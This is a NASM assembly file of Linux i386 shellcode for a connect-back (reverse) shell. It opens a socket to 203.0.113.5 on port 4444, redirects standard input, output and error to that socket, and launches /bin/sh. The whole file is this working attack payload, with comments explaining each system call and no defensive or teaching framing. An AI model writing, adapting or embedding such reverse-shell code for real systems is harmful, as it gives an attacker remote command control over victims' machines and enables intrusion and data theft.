; Connect-back shell, Linux i386: socketcall(socket), socketcall(connect)
; to 203.0.113.5:4444, dup2 over 2..0, execve /bin//sh.
BITS 32
    xor ebx, ebx
    mul ebx
    push ebx                    ; protocol 0
    inc ebx                     ; SYS_SOCKET
    push ebx                    ; SOCK_STREAM
    push 2                      ; AF_INET
    mov ecx, esp
    mov al, 102                 ; socketcall
    int 0x80
    xchg esi, eax
    push dword 0x057100cb       ; 203.0.113.5
    push word 0x5c11            ; port 4444
    push word 2
    mov ecx, esp
    push 16
    push ecx
    push esi
    mov ecx, esp
    mov bl, 3                   ; SYS_CONNECT
    mov al, 102
    int 0x80
    xchg ebx, esi
    push 2
    pop ecx
dup:
    mov al, 63                  ; dup2
    int 0x80
    dec ecx
    jns dup
    xor eax, eax
    push eax
    push 0x68732f2f
    push 0x6e69622f
    mov ebx, esp
    push eax
    push ebx
    mov ecx, esp
    cdq
    mov al, 11
    int 0x80
